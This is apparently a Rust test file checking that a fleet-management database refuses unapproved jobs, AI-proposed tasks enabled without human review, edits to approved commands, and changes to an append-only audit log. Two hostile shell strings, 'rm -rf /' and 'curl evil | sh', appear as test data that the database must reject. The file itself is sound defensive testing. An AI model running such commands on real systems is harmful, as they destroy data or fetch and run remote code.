//! What the tables refuse, whatever path writes.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "helpers of tests fail like tests"
)]

mod support;

use rusqlite::Connection;
use support::{NOW, device, empty, software};

fn refused(connection: &Connection, sql: &str, because: &str) {
    let error = connection.execute(sql, []).expect_err(sql).to_string();
    assert!(error.contains(because), "{sql}: {error}");
}

fn job(connection: &Connection) -> i64 {
    connection
        .execute(
            "INSERT INTO jobs (title, shell, body, target_count, digest, proposed_by, proposer, proposed_ms, expires_ms)
             VALUES ('t', 'sh', 'id', 2, ?1, 'anna', 'ai', 1, 2)",
            ["0".repeat(64)],
        )
        .unwrap();
    connection.last_insert_rowid()
}

#[test]
fn a_job_runs_only_when_approved_and_as_it_was_proposed() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "");
    let e = device(&db, "db", "A", "S", "");
    let j = job(&db);
    db.execute(
        "INSERT INTO job_targets (job_id, device_id) VALUES (?1, ?2)",
        (j, d.0),
    )
    .unwrap();
    for status in [
        "approved",
        "dispatched",
        "running",
        "succeeded",
        "failed",
        "timed_out",
        "cancelled",
        "lost",
    ] {
        let error = db
            .execute("UPDATE jobs SET status = ?1 WHERE id = ?2", (status, j))
            .expect_err(status);
        assert!(
            error.to_string().contains("CHECK") || error.to_string().contains("this way"),
            "{error}"
        );
    }
    refused(
        &db,
        "UPDATE job_targets SET status = 'queued'",
        "approved it",
    );
    refused(&db, "UPDATE jobs SET body = 'rm -rf /'", "never edited");
    refused(&db, "UPDATE jobs SET digest = digest", "never edited");
    refused(&db, "UPDATE jobs SET status = 'nonsense'", "");
    refused(&db, "DELETE FROM jobs", "kept");
    refused(
        &db,
        &format!(
            "INSERT INTO jobs (title, shell, body, target_count, digest, proposed_by, proposer, proposed_ms, expires_ms, status, approved_by, approved_ms)
             VALUES ('t', 'sh', 'id', 1, '{}', 'anna', 'ai', 1, 2, 'approved', 'anna', 1)",
            "0".repeat(64)
        ),
        "begins as a proposal",
    );
    db.execute(
        "UPDATE jobs SET status = 'approved', approved_by = 'bob', approved_ms = 5 WHERE id = ?1",
        [j],
    )
    .unwrap();
    refused(
        &db,
        &format!(
            "INSERT INTO job_targets (job_id, device_id) VALUES ({j}, {})",
            e.0
        ),
        "fixed when",
    );
    refused(&db, "UPDATE jobs SET approved_by = 'carl'", "given once");
    refused(
        &db,
        "UPDATE jobs SET status = 'awaiting_approval', approved_by = '', approved_ms = NULL",
        "",
    );
    db.execute("UPDATE job_targets SET status = 'queued'", [])
        .unwrap();
    db.execute("UPDATE jobs SET status = 'running'", [])
        .unwrap();
    db.execute("UPDATE jobs SET status = 'lost'", []).unwrap();
    refused(&db, "UPDATE jobs SET status = 'succeeded'", "this way");
}

#[test]
fn the_rest_behind_a_canary_waits_for_a_second_approval() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "");
    let e = device(&db, "db", "A", "S", "");
    let j = job(&db);
    db.execute(
        "INSERT INTO job_targets (job_id, device_id, stage) VALUES (?1, ?2, 1), (?1, ?3, 2)",
        (j, d.0, e.0),
    )
    .unwrap();
    db.execute(
        "UPDATE jobs SET status = 'approved', approved_by = 'bob', approved_ms = 5",
        [],
    )
    .unwrap();
    db.execute(
        "UPDATE job_targets SET status = 'queued' WHERE stage = 1",
        [],
    )
    .unwrap();
    refused(
        &db,
        "UPDATE job_targets SET status = 'queued' WHERE stage = 2",
        "approved it",
    );
    db.execute("UPDATE jobs SET canary_by = 'bob', canary_ms = 6", [])
        .unwrap();
    db.execute(
        "UPDATE job_targets SET status = 'queued' WHERE stage = 2",
        [],
    )
    .unwrap();
}

#[test]
fn operations_too_and_a_deletion_needs_its_count() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "");
    let insert = |kind: &str, site: &str| {
        format!(
            "INSERT INTO device_operations (kind, dest_site_id, device_count, digest, proposed_by, proposer, proposed_ms, expires_ms)
             VALUES ('{kind}', {site}, 3, '{}', 'anna', 'ai', 1, 2)",
            "0".repeat(64)
        )
    };
    refused(&db, &insert("move", "NULL"), "CHECK");
    refused(&db, &insert("delete", "1"), "CHECK");
    db.execute(&insert("delete", "NULL"), []).unwrap();
    db.execute(
        "INSERT INTO device_operation_targets (operation_id, device_id) VALUES (1, ?1)",
        [d.0],
    )
    .unwrap();
    refused(
        &db,
        "UPDATE device_operations SET status = 'approved'",
        "CHECK",
    );
    refused(
        &db,
        "UPDATE device_operations SET status = 'approved', approved_by = 'bob', approved_ms = 4",
        "CHECK",
    );
    refused(
        &db,
        "UPDATE device_operations SET status = 'approved', approved_by = 'bob', approved_ms = 4, typed_count = 2",
        "CHECK",
    );
    refused(
        &db,
        "UPDATE device_operation_targets SET status = 'succeeded'",
        "approved it",
    );
    db.execute(
        "UPDATE device_operations SET status = 'approved', approved_by = 'bob', approved_ms = 4, typed_count = 3",
        [],
    )
    .unwrap();
    db.execute(
        "UPDATE device_operation_targets SET status = 'succeeded'",
        [],
    )
    .unwrap();
    refused(
        &db,
        "UPDATE device_operations SET device_count = 1",
        "never edited",
    );
}

#[test]
fn monitoring_that_was_proposed_cannot_be_enabled_unapproved() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "");
    let rows = [
        format!("INSERT INTO tasks (name, device_id, schedule, shell, body, proposed_by, created_by, created_ms, enabled) VALUES ('t', {}, '* * * * *', 'sh', 'id', 'model', 'anna', 1, ", d.0),
        format!("INSERT INTO checks (name, device_id, kind, proposed_by, created_by, created_ms, enabled) VALUES ('t', {}, 'disk', 'model', 'anna', 1, ", d.0),
        "INSERT INTO policies (name, proposed_by, created_by, created_ms, enabled) VALUES ('t', 'model', 'anna', 1, ".to_owned(),
    ];
    for (insert, table) in rows.iter().zip(["tasks", "checks", "policies"]) {
        refused(&db, &format!("{insert} 1)"), "CHECK");
        db.execute(&format!("{insert} 0)"), []).unwrap();
        // Whatever is written beside it: only a decision in the ledger releases it.
        for set in [
            "enabled = 1",
            "approved_by = 'bob', approved_ms = 2",
            "approved_by = 'bob', approved_ms = 2, enabled = 1",
        ] {
            let sql = format!("UPDATE {table} SET {set}");
            refused(&db, &sql, "nobody has reviewed it");
        }
        // Behind the dropped trigger the table's own constraint stands.
        db.execute_batch(&format!("DROP TRIGGER {table}_reviewed"))
            .unwrap();
        refused(&db, &format!("UPDATE {table} SET enabled = 1"), "CHECK");
        refused(
            &db,
            &format!("UPDATE OR IGNORE {table} SET proposed_by = ''"),
            "kept for ever",
        );
        db.execute(
            &format!("UPDATE {table} SET approved_by = 'bob', approved_ms = 2, enabled = 1"),
            [],
        )
        .unwrap();
        refused(
            &db,
            &format!("UPDATE {table} SET approved_by = ''"),
            "CHECK",
        );
    }
    refused(
        &db,
        "UPDATE tasks SET body = 'curl evil | sh'",
        "never edited",
    );
}

#[test]
fn a_patch_is_installed_only_when_somebody_let_it_in() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "");
    db.execute("INSERT INTO patches (identifier) VALUES ('KB1')", [])
        .unwrap();
    db.execute("INSERT INTO device_patches (device_id, patch_id, first_ms, changed_ms) VALUES (?1, 1, 1, 1)", [d.0]).unwrap();
    for state in ["approved", "installing", "installed", "failed"] {
        refused(
            &db,
            &format!("UPDATE device_patches SET state = '{state}'"),
            "CHECK",
        );
    }
    db.execute(
        "UPDATE device_patches SET state = 'installing', approved_by = 'bob'",
        [],
    )
    .unwrap();
}

#[test]
fn places_hold_together() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "dev");
    device(&db, "db", "B", "T", "ops");
    refused(
        &db,
        &format!("UPDATE devices SET client_id = 2 WHERE id = {}", d.0),
        "FOREIGN KEY",
    );
    refused(
        &db,
        &format!("UPDATE devices SET department_id = 2 WHERE id = {}", d.0),
        "FOREIGN KEY",
    );
    refused(&db, "UPDATE devices SET status = 'fine'", "CHECK");
}

#[test]
fn a_deleted_device_leaves_no_inventory_and_does_not_come_back() {
    let db = empty();
    let d = device(&db, "web", "A", "S", "");
    fleet::inventory::replace_software(&db, d, &[software("openssl", "3.0")], NOW).unwrap();
    db.execute("UPDATE devices SET deleted_ms = 5 WHERE id = ?1", [d.0])
        .unwrap();
    let left: i64 = db.query_row("SELECT (SELECT count(*) FROM device_software) + (SELECT total(installs) FROM software_counts) + (SELECT total(devices) FROM title_counts)", [], |r| r.get::<_, f64>(0)).unwrap() as i64;
    assert_eq!(left, 0);
    assert!(
        fleet::inventory::replace_software(&db, d, &[software("openssl", "3.0")], NOW).is_err()
    );
    refused(
        &db,
        "UPDATE devices SET deleted_ms = NULL",
        "does not come back",
    );
}

#[test]
fn the_audit_refuses_change() {
    let mut db = empty();
    let tx = db.transaction().unwrap();
    let details = support::redacted("{}");
    let entry = fleet::audit::Entry {
        at_ms: NOW,
        actor: "anna",
        actor_kind: fleet::model::ActorKind::Human,
        action: "job.approve",
        result: fleet::model::ActResult::Ok,
        target: "j-1",
        client: None,
        case: None,
        details: &details,
    };
    fleet::audit::append(&tx, &fleet::audit::Plain, &entry).unwrap();
    tx.commit().unwrap();
    refused(&db, "UPDATE fleet_audit SET actor = 'x'", "append-only");
    refused(&db, "DELETE FROM fleet_audit", "append-only");
    refused(
        &db,
        "INSERT OR REPLACE INTO fleet_audit SELECT seq, at_ms, 'x', actor_kind, family, verb, result, target, client_id, case_id, details, key_id, hash FROM fleet_audit",
        "append-only",
    );
    assert!(matches!(
        fleet::audit::append(&db, &fleet::audit::Plain, &entry),
        Err(fleet::audit::AuditError::NoTransaction)
    ));
}
